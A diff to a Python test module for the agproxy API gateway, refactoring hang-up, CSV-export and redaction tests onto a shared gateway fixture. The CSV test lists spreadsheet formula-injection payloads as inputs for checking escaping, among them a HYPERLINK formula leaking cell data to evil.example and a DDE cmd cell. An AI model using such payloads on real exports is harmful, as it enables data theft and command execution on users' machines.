@@ -11,6 +11,7 @@ import socket
 import sqlite3
 import time
 import uuid
+from collections.abc import Iterator
 from typing import Any
 from urllib.parse import quote
 
@@ -25,9 +26,29 @@ from agproxy.db import open_database
 from agproxy.monitor.record import RequestRecord
 from agproxy.monitor.redact import capture_text, redact
 from agproxy.monitor.writer import BODY_DROPPED, MonitorWriter
-from conftest import Gateway, gateway_with
+from conftest import Borrowed, Gateway, borrow, gateway_with, google_env, spawn
 
 CHAT = {"model": "gemini-3-flash", "messages": [{"role": "user", "content": "hello"}]}
+ERRORS = ("RuntimeError", "Traceback")
+
+
+@pytest.fixture(scope="module")
+def gateway(tmp_path_factory: pytest.TempPathFactory, fake_google_server: Any) -> Iterator[Gateway]:
+    """One gateway for the tests that need no process of their own. Hang-ups must leave no
+    error in its output, up to and including a clean stop at the end."""
+    gw = spawn(tmp_path_factory.mktemp("hardening") / "gw", **google_env(fake_google_server))
+    yield gw
+    assert gw.stop() == 0
+    output = gw.log()
+    assert not any(error in output for error in ERRORS), output
+
+
+@pytest.fixture
+def shared(gateway: Gateway, fake_google: Any) -> Iterator[Borrowed]:
+    """The module's gateway with an empty monitor: the records are this test's own."""
+    with borrow(gateway, fake_google) as turn:
+        assert gateway.admin("POST", "/api/logs/clear").status_code == 200
+        yield turn
 
 
 def logs(gw: Gateway, **params: Any) -> list[dict[str, Any]]:
@@ -65,9 +86,10 @@ def raw_request(gw: Gateway, path: str, body: dict[str, Any]) -> socket.socket:
 
 # -- 15: a hang-up before the first byte --------------------------------------------------
 def test_a_hang_up_before_the_answer_cancels_the_upstream_call(
-    gateway_factory: Any, fake_google: Any
+    shared: Borrowed, fake_google: Any
 ) -> None:
-    gw, [acct] = gateway_with(gateway_factory, fake_google)
+    gw = shared.gw
+    [acct] = shared.add_accounts(1)
     # The upstream sends one event, then stalls: the gateway is collecting a non-streamed
     # answer and has sent the client nothing.
     fake_google.inject(Fault.stall(20), email=acct.email)
@@ -94,9 +116,10 @@ def test_a_hang_up_before_the_answer_cancels_the_upstream_call(
 
 
 def test_a_hang_up_while_a_stream_waits_for_its_first_event_is_a_prompt_499(
-    gateway_factory: Any, fake_google: Any
+    shared: Borrowed, fake_google: Any
 ) -> None:
-    gw, [acct] = gateway_with(gateway_factory, fake_google)
+    gw = shared.gw
+    [acct] = shared.add_accounts(1)
     fake_google.inject(Fault.slow(8), email=acct.email)  # no answer at all for 8 s
     sock = raw_request(
         gw,
@@ -143,9 +166,12 @@ STREAMS = {
 
 @pytest.mark.parametrize("protocol", list(STREAMS))
 def test_a_stream_aborted_mid_way_is_recorded_as_499_without_errors(
-    gateway_factory: Any, fake_google: Any, protocol: str
+    shared: Borrowed, fake_google: Any, protocol: str
 ) -> None:
-    gw, [acct] = gateway_with(gateway_factory, fake_google, AGPROXY_STREAM_PING_SECONDS="0.2")
+    gw = shared.gw
+    [acct] = shared.add_accounts(1)
+    shared.configure(stream_ping_seconds=0.2)
+    log_start = len(gw.output)
     fake_google.inject(Fault.stall(20), email=acct.email)
     path, body = STREAMS[protocol]
     with httpx.stream("POST", gw.base_url + path, json=body, timeout=30) as response:
@@ -161,9 +187,9 @@ def test_a_stream_aborted_mid_way_is_recorded_as_499_without_errors(
     while not fake_google.disconnects:  # the upstream call was closed too
         assert time.monotonic() < deadline, "the upstream call ran on"
         time.sleep(0.05)
-    assert gw.stop() == 0
-    output = "".join(gw.output)
-    assert "RuntimeError" not in output and "Traceback" not in output, output
+    # No error so far; the module's gateway also checks its whole output after a clean stop.
+    output = "".join(gw.output[log_start:])
+    assert not any(error in output for error in ERRORS), output
 
 
 # -- 8: a queue bounded in bytes ------------------------------------------------------------
@@ -250,8 +276,10 @@ def test_the_queue_bound_is_checked(bad: object) -> None:
 
 
 # -- 13: CSV cells that a spreadsheet would run ----------------------------------------------
-def test_the_csv_export_escapes_formula_cells(gateway_factory: Any, fake_google: Any) -> None:
-    gw, _ = gateway_with(gateway_factory, fake_google, AGPROXY_AUTH_MODE="strict")
+def test_the_csv_export_escapes_formula_cells(shared: Borrowed) -> None:
+    gw = shared.gw
+    shared.add_accounts(1)
+    shared.configure(auth_mode="strict")
     formulas = [
         '=HYPERLINK("evil.example/?leak="&A1,"report")',
         "+cmd|' /C calc'!A0",
@@ -274,15 +302,11 @@ def test_the_csv_export_escapes_formula_cells(gateway_factory: Any, fake_google:
 
 
 # -- 16: redaction of every stored column and of escaped secrets ------------------------------
-def test_every_stored_column_is_redacted(gateway_factory: Any, fake_google: Any) -> None:
+def test_every_stored_column_is_redacted(shared: Borrowed) -> None:
     password = "admin-pass-" + uuid.uuid4().hex
-    gw, _ = gateway_with(
-        gateway_factory,
-        fake_google,
-        AGPROXY_AUTH_MODE="strict",
-        AGPROXY_MONITOR_CAPTURE_BODIES="true",
-        AGPROXY_ADMIN_PASSWORD=password,
-    )
+    gw = shared.gw
+    shared.add_accounts(1)
+    shared.configure(auth_mode="strict", monitor_capture_bodies=True, admin_password=password)
     key = gw.api_key
     github = "ghp_" + uuid.uuid4().hex[:36]
     escaped_key = key[:3] + "".join(f"\\u{ord(c):04x}" for c in key[3:])
